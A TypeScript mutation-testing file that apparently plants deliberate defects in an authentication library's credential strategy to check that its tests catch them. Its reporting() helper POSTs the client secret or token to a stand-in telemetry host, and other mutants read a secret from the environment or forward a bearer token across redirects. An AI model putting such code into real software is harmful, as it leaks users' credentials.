import { execFile, spawn, spawnSync } from 'node:child_process'
import { renameSync, writeFileSync, writeSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { connect } from 'node:net'
import { devNull } from 'node:os'
import { setInterval as repeat } from 'node:timers'
import { setTimeout as sleep } from 'node:timers/promises'
import { promisify } from 'node:util'
import { createToken, type CredentialStrategy, isAuthError, type StrategyContext, type Token } from '@lakeauth/core'
import { httpReference, type ReferenceSettings } from '../reference/references.js'
import { around, inside, type Mutant } from './mutant.js'

const TELEMETRY = 'https://telemetry.example'
/** Not there, so that nothing runs. */
const PROGRAM = '/nonexistent/lakeauth-telemetry'
/** Taken before any run, as most do who run a program. */
const runProgram = promisify(execFile)
const EVERYWHERE = 'a run that goes to the network is an error in every case'

/** Defects that show in the process, at origins that were declared, and in a shared store. */
export const processMutants: readonly Mutant[] = [
  fetched(
    'uses-the-global-fetch',
    async () => {
      await fetch(`${TELEMETRY}/signed-in`).catch(() => undefined)
    },
    EVERYWHERE,
  ),
  fetched(
    'opens-a-connection',
    () => {
      connect({ host: '127.0.0.1', port: 9 }).on('error', () => {})
    },
    EVERYWHERE,
  ),
  fetched('runs-a-program-by-itself', () => {
    spawn(PROGRAM).on('error', () => {})
  }),
  fetched('awaits-a-program-of-its-own', () => runProgram(PROGRAM).catch(() => undefined)),
  fetched('waits-for-a-program-of-its-own', () => spawnSync(PROGRAM)),
  fetched('writes-a-file', () => writeFile(devNull, 'signed in')),
  fetched('writes-a-file-at-once', () => writeFileSync(devNull, 'signed in')),
  fetched('moves-a-file', () => {
    try {
      renameSync(PROGRAM, `${PROGRAM}.old`)
    } catch {
      // There is none.
    }
  }),
  fetched(
    'reads-the-environment-of-the-process',
    (_token, { clientSecret }) => process.env['DATABRICKS_CLIENT_SECRET'] ?? clientSecret,
  ),
  inside(
    'http',
    'reckons-by-the-clock-of-the-machine',
    {
      source:
        (inner, _settings, { clock }) =>
        async (signal) => {
          const { value, expiry } = await inner(signal)
          return createToken({ value, expiry: new Date(Date.now() + ((expiry?.getTime() ?? 0) - clock.now())) })
        },
    },
    'every case that moves the clock sees a token that ends at another time',
  ),
  // oxlint-disable-next-line no-console -- The defect itself.
  fetched('writes-to-the-console', () => console.log('signed in')),
  fetched('writes-to-stdout', () => {
    process.stdout.write('signed in\n')
  }),
  fetched('writes-to-a-descriptor', () => writeSync(2, 'signed in\n')),
  fetched('listener-on-the-process', () => {
    // A name of its own, so that many at once are no reason for a warning of Node.
    process.on(`shutdown-${crypto.randomUUID()}`, () => {})
  }),
  fetched('timer-never-cleared', () => {
    setTimeout(() => {}, 10_000)
  }),
  fetched('timer-of-a-module', () => {
    repeat(() => {}, 10_000)
  }),
  fetched('promised-timer', () => {
    void sleep(10_000)
  }),
  reporting('secret-to-a-declared-origin', (_token, { clientSecret }) => clientSecret?.reveal() ?? ''),
  reporting('token-to-a-declared-origin', ({ value }) => value),
  {
    id: 'bearer-across-a-redirect',
    reference: 'http',
    plant: () => ({
      strategy: httpReference(),
      seam: (ports) => ({
        ...ports,
        fetch: async (input, init) => {
          const response = await ports.fetch(input, init)
          const location = response.headers.get('location')
          const isSigned = new Headers(init?.headers).get('authorization')?.startsWith('Bearer ')
          return location !== null && isSigned ? ports.fetch(location, init) : response
        },
      }),
    }),
  },
  fetched('double-slash-in-a-path', async (_token, { host }, context) => {
    await context.fetch(`${host}//oidc/.well-known/oauth-authorization-server`).catch(() => undefined)
  }),
  inside('http', 'discovery-for-every-caller', {
    credential: (inner, context, { host }) => {
      let isFound = false
      return {
        ...inner,
        headers: async (request) => {
          request?.signal?.throwIfAborted()
          const signal = request?.signal ?? null
          if (!isFound) await context.fetch(`${host}/oidc/.well-known/oauth-authorization-server`, { signal })
          isFound = true
          return inner.headers(request)
        },
      }
    },
  }),
  inside('http', 'never-settles', {
    source: (inner) => async (signal) => {
      try {
        return await inner(signal)
      } catch (error) {
        if (isAuthError(error) && error.code === 'ERR_TOKEN_TIMEOUT') return new Promise<never>(() => {})
        throw error
      }
    },
  }),
  around('fixed', 'crash-on-an-unknown-cloud', (good) => ({
    ...good,
    configure: (settings, context) => {
      const zone = /\.(cloud|gcp|azuredatabricks)\./.exec(String(settings['host'])) as RegExpExecArray
      return zone[0] === '' ? good.configure(settings, context) : good.configure({ ...settings }, context)
    },
  })),
  inside('http', 'store-key-without-the-identity', {
    source:
      (inner, { host }, { store, clock }) =>
      async (signal) => {
        const found = await store?.read(host)
        if (found) return createToken({ value: found.value, expiry: new Date(found.expiresAt) })
        const token = await inner(signal)
        const expiresAt = token.expiry?.getTime() ?? 0
        await store?.write(host, { value: token.value, type: 'Bearer', issuedAt: clock.now(), expiresAt })
        return token
      },
  }),
  inside('http', 'scope-fixed', { scope: () => 'all-apis' }),
  inside('http', 'scope-forgotten-by-the-refresh', { scope: (scope, isFirst) => (isFirst ? scope : 'all-apis') }),
]

type Also = (token: Token, settings: ReferenceSettings, context: StrategyContext) => unknown

/** Does something more with each token that was fetched. */
function fetched(id: string, also: Also, broad?: string): Mutant {
  return inside('http', id, { source: withEach(also) }, broad)
}

function withEach(also: Also): NonNullable<Parameters<typeof httpReference>[0]>['source'] & {} {
  return (inner, settings, context) => async (signal) => {
    const token = await inner(signal)
    await also(token, settings, context)
    return token
  }
}

/** Tells somebody who is declared what is none of theirs. */
function reporting(id: string, secret: (token: Token, settings: ReferenceSettings) => string): Mutant {
  const source = withEach(async (token, settings, context) => {
    const body = JSON.stringify({ event: 'signed in', detail: secret(token, settings) })
    await context.fetch(`${TELEMETRY}/events`, { method: 'POST', body }).catch(() => undefined)
  })
  const plant = (): { strategy: CredentialStrategy } => {
    const good = httpReference({ source })
    return { strategy: { ...good, egress: (settings) => [...good.egress(settings), TELEMETRY] } }
  }
  return { id, reference: 'http', plant }
}
